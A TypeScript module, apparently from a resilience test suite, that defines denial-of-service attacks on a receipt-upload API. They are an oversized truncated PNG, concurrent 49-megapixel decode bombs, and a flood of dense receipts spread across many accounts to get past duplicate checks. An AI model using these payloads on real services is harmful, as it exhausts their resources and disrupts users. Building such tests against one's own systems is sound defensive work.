import { randomUUID } from "node:crypto";
import type { Attack } from "./attack.ts";
import { each, repeat } from "./attack.ts";
import { densePage, plainPng, receiptForm, withComment } from "./pictures.ts";
import type { Target } from "./target.ts";
import { versioned } from "./target.ts";

/** Receipts of the attacker that wait to be read. */
const WAITING = 500;
const USERS = 25;
const PAGES = 5;

/** Attacks by photos: on the decoder, on the thread that examines, on the queue that reads. */
export const PICTURE_ATTACKS: readonly Attack[] = [
  {
    name: "tall-png",
    about: "a PNG of 1 x 19,000,000 pixels, four at a time on one hosted link",
    prepare: async (target) => {
      const link = await target.receiptLink(await target.attacker.enrol());
      const whole = plainPng({ width: 1, height: 19_000_000, bitDepth: 1 });
      // Cut short it is refused, so that the link stays open.
      const image = whole.subarray(0, whole.length - 100);
      return (signal, note) =>
        repeat(4, signal, note, () => fetch(link, { method: "POST", body: receiptForm(image), signal }));
    },
  },
  {
    name: "decode-bombs",
    about: "PNGs of 49 megapixels in 16-bit colour, plain and interlaced, eight at a time by the API",
    prepare: async (target) => {
      const userId = await target.attacker.enrol();
      const size = { width: 7_000, height: 7_000, bitDepth: 16, hasColour: true } as const;
      const images = [plainPng(size), plainPng({ ...size, isInterlaced: true })];
      return (signal, note) => repeat(8, signal, note, (lane) => upload(target, userId, images[lane % 2]!, signal));
    },
  },
  {
    name: "dense-queue",
    about: `${WAITING} receipts with a page full of print wait while another application uploads one`,
    mustFinish: true,
    prepare: async (target) => {
      // Several users and pages: those of one user, and copies, are refused before they wait.
      const userIds = await Promise.all(Array.from({ length: USERS }, () => target.attacker.enrol()));
      const pages = await Promise.all(Array.from({ length: PAGES }, (_, seed) => densePage(seed + 1)));
      const send = async (number: number) =>
        upload(target, userIds[number % USERS]!, withComment(pages[number % PAGES]!, number));
      let accepted = 0;
      await each(WAITING * 2, 8, async (number) => {
        if (accepted >= WAITING) return;
        const response = await send(number);
        await response.arrayBuffer();
        if (response.ok) accepted++;
      });
      if (accepted < WAITING) throw new Error(`only ${accepted} of ${WAITING} receipts were accepted`);
      let number = WAITING * 2;
      return (signal, note) => repeat(1, signal, note, () => send(number++));
    },
  },
];

function upload(target: Target, userId: string, image: Buffer, signal?: AbortSignal): Promise<Response> {
  const { url, attacker } = target;
  const body = receiptForm(image, {
    userId,
    transactionId: randomUUID(),
    merchantName: "Corner shop",
    amount: "10",
    transactionTimestamp: new Date().toISOString(),
  });
  return fetch(`${url}${versioned("/track/receipts")}`, {
    method: "POST",
    headers: attacker.headers,
    body,
    ...(signal && { signal }),
  });
}
